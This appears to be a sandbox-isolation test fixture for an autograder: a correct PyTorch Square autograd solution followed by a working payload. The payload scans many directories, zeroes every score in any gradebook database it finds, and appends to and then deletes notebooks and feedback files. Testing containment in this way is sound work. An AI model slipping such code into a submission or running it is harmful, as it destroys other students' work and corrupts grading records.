# notebook: 03_double_backward.ipynb
# cell: square
# others: solution
# expect: square=6 exp=6 sinh=6 cube=6
# bound: 20
# policy: off
# after: course-untouched advpwned7c1
# why: a right answer that then tries to write the gradebook (any gradebook.db it finds: full marks for itself,
#      zero for everyone else), other students' submitted/autograded/feedback files and grader_results, and
#      the course repository. Nothing outside its scratch may change.
import os
import sqlite3
import time
from pathlib import Path

import grader

MARKER = "advpwned7c1"


class Square(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        ctx.save_for_backward(x)
        return x ** 2

    @staticmethod
    def backward(ctx, grad_out):
        x, = ctx.saved_tensors
        return grad_out * 2 * x


def _targets(budget=8.0, max_depth=6):
    started = time.monotonic()
    roots = {Path.cwd().parent, *Path(grader.__file__).resolve().parents, Path("/tmp"), Path("/work"), Path("/root"),
             Path("/home"), Path("/srv")}
    skip = {".git", ".venv", "site-packages", "proc", "sys", "dev", "usr", "__pycache__"}
    for root in sorted(str(r) for r in roots):
        for folder, dirs, files in os.walk(root):
            depth = folder[len(root):].count(os.sep)
            dirs[:] = [d for d in dirs if d not in skip and depth < max_depth]
            if time.monotonic() - started > budget:
                return
            yield folder, files


attempts = []
for folder, files in _targets():
    if Path(folder).resolve() == Path.cwd().resolve():
        continue
    try:
        Path(folder, MARKER + ".txt").write_text(MARKER)
        attempts.append(("created a file in", folder))
    except OSError:
        pass
    for name in files:
        path = os.path.join(folder, name)
        if name.endswith(".db"):
            try:
                db = sqlite3.connect(path, timeout=1)
                db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
                db.commit()
                db.close()
                attempts.append(("zeroed the grades of", path))
            except Exception:
                pass
        elif name.endswith((".ipynb", ".json", ".html")):
            try:
                with open(path, "a") as f:
                    f.write(MARKER)
                attempts.append(("appended to", path))
            except OSError:
                pass
            try:
                os.remove(path)
                attempts.append(("deleted", path))
            except OSError:
                pass
print("what worked:", attempts)
